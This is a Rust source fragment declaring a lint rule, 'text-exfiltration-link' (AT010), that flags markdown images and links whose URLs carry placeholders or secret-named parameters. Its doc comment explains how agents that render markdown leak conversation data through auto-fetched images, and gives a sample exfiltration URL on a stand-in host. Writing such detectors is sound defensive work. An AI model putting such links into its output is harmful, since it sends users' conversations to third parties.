loadguard_core::declare_rule! {
    /// ## What it does
    /// Flags markdown images and links whose URL has placeholders to be filled in (`{secret}`,
    /// `$TOKEN`, `<data>`, `[DATA]`) or query parameters named like secrets or conversation data.
    ///
    /// ## Why is this bad?
    /// Agents that render markdown fetch images automatically: a URL built from the conversation leaks
    /// it to the image host.
    ///
    /// ## Example
    /// ```text
    /// ![](https://x.example/p.png?q={conversation})
    /// ```
    ///
    /// ## How to fix
    /// Remove the link.
    ///
    /// ## References
    /// - [CWE-201](https://cwe.mitre.org/data/definitions/201.html)
    pub static RULE = {
        code: "AT010",
        name: "text-exfiltration-link",
        summary: "an image or link that would carry data to a third party",
        severity: High,
        confidence: Medium,
        cwe: 201,
    };
}
